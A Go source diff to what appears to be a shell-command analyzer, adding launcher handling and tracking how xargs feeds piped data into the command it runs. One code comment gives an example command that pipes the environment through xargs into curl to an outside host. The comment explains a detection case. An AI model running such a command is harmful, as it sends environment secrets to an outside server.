@@ -291,6 +291,15 @@ func (x *extractor) command(seg *Segment, ctx walkCtx) *Segment {
 			ctx = ctx.with(name)
 			seg.Args = rest
 			continue
+		case launcherArgOpts.get()[name] != nil:
+			rest, _ := launcherArgv(name, args[1:])
+			if len(rest) == 0 {
+				x.add(seg, ctx)
+				return seg
+			}
+			ctx = ctx.with(name)
+			seg.Args = rest
+			continue
 		case name == "command":
 			rest := args[1:]
 			if len(rest) > 0 && (rest[0] == "-v" || rest[0] == "-V") {
@@ -418,6 +427,7 @@ func embeddedCommands(s *Segment) []string {
 		return ""
 	}
 	out = append(out, sqliteCodes(s)...)
+	out = append(out, launcherCodes(s)...)
 	out = append(out, dbClientCodes(s)...)
 	out = append(out, packageScriptCodes(s)...)
 	out = append(out, appCodeCommands(s)...)
@@ -595,6 +605,7 @@ func (x *extractor) fedCode(seg *Segment) (code, via string, ok bool) {
 // which are resolved to what find would print when find feeds it, else unknown.
 func (x *extractor) xargs(seg *Segment, ctx walkCtx) *Segment {
 	rest := skipOpts(seg.Args[1:], map[string]bool{"-n": true, "-I": true, "-P": true, "-d": true, "-L": true, "-a": true, "-E": true, "-s": true, "--max-args": true, "--max-procs": true, "--delimiter": true, "--arg-file": true})
+	own := seg.Args[1 : len(seg.Args)-len(rest)] // xargs's own options, not the command's
 	input := "${each input line}"
 	var known []string
 	if seg.PipeIn != nil && seg.PipeIn.Name() == "find" {
@@ -611,9 +622,20 @@ func (x *extractor) xargs(seg *Segment, ctx walkCtx) *Segment {
 	}
 	inner := &Segment{Args: append(append([]string(nil), rest...), input), Text: seg.Text, PipeIn: nil, Parsed: seg.Parsed, Dynamic: seg.Dynamic,
 		Redirs: toolFileRedirs(seg)} // xargs -a FILE reads FILE (toolfiles.go)
+	// What xargs reads becomes the command's words: the data on its pipe reaches them as a
+	// $(…) would (env | xargs -I{} curl "https://host/?d={}" sends the environment).
+	inner.In, inner.Feeds = seg.In, seg.Feeds
+	if seg.PipeIn != nil {
+		inner.In = inner.In.union(seg.PipeIn.Out)
+		inner.Feeds = append(append([]*Segment(nil), seg.Feeds...), seg.PipeIn)
+	}
+	replace, ok := optValue(own, "-I", "--replace")
+	if !ok && containsArg(own, "-i") {
+		replace, ok = "{}", true // -i is -I {} (GNU xargs, deprecated)
+	}
 	if len(known) > 0 {
 		inner.Args = append(inner.Args[:len(inner.Args)-1], known...)
-	} else if replace, ok := optValue(seg.Args[1:], "-I"); ok {
+	} else if ok {
 		inner.Args = inner.Args[:len(inner.Args)-1]
 		for i, a := range inner.Args {
 			inner.Args[i] = strings.ReplaceAll(a, replace, input)
